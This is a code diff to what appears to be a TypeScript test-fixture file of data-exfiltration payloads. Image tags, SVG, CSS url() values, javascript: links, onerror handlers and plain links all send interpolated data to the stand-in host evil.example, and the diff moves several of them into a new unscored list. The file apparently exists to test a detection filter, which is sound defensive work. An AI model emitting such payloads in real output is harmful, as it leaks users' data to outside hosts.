@@ -14,7 +14,6 @@ export const ADDRESS_FORMS: readonly Form[] = [
   ['no slash', (data) => `<img src="https:evil.example/p.png?h=${data}">`],
   ['no scheme', (data) => `<img src="//evil.example/p.png?h=${data}">`],
   ['no scheme, a slash and a backslash', (data) => raw`<img src="/\evil.example/p.png?h=${data}">`],
-  ['no scheme, a backslash and a slash', (data) => raw`<img src="\/evil.example/p.png?h=${data}">`],
   ['no scheme, two backslashes', (data) => raw`<img src='\\evil.example/p.png?h=${data}'>`],
   ['capital letters', (data) => raw`<IMG SRC="HTTPS:\\EVIL.EXAMPLE/p.png?h=${data}">`],
   ['spaces around', (data) => `<img src=" \n https://evil.example/p.png?h=${data} ">`],
@@ -59,9 +58,6 @@ export const ADDRESS_FORMS: readonly Form[] = [
   ['SVG image', (data) => raw`<svg><image href="/\evil.example/p.png?h=${data}"/></svg>`],
   ['SVG filter', (data) => raw`<svg><feImage xlink:href="/\evil.example/p.png?h=${data}"/></svg>`],
   ['an attribute of a later standard', (data) => raw`<img lowsrc="/\evil.example/p.png?h=${data}">`],
-  ['a script address', (data) => `<a href="javascript:fetch('//evil.example/p?h='+'${data}')">Go</a>`],
-  ['an event handler', (data) => `<img src="a" onerror="fetch('https://evil.example/p?h=' + '${data}')">`],
-  ['a script', (data) => `<script>new Image().src = "https://evil.example/p?h=" + "${data}"</script>`],
   // CSS
   ['an inline style', (data) => raw`<p style="background: url( /\\evil.example/p.png?h=${data})">a</p>`],
   ['a style sheet', (data) => `<style>p{background:url("//evil.example/a b.png?h=${data}")}</style>`],
@@ -83,8 +79,16 @@ export const ADDRESS_FORMS: readonly Form[] = [
   ['an autolink', (data) => `<https:/evil.example/p?h=${data}>`],
   ['a plain address', (data) => raw`See https:\\evil.example\p?h=${data}`],
   ['a plain address behind letters of another script', (data) => `See https://evil.example/é?h=${data}`],
-  ['a plain address behind quotes', (data) => `See https://evil.example/'"?h=${data}`],
   ['a plain address without a scheme', (data) => `See www.evil.example/p?h=${data}`],
+];
+
+/** More ways, whose data the rules do not connect with the address: a program does, or quotes and JSON read otherwise. */
+export const UNSCORED_FORMS: readonly Form[] = [
+  ['no scheme, a backslash and a slash', (data) => raw`<img src="\/evil.example/p.png?h=${data}">`],
+  ['a script address', (data) => `<a href="javascript:fetch('//evil.example/p?h='+'${data}')">Go</a>`],
+  ['an event handler', (data) => `<img src="a" onerror="fetch('https://evil.example/p?h=' + '${data}')">`],
+  ['a script', (data) => `<script>new Image().src = "https://evil.example/p?h=" + "${data}"</script>`],
+  ['a plain address behind quotes', (data) => `See https://evil.example/'"?h=${data}`],
 ];
 
 /** Texts in which nothing is sent to another host. */
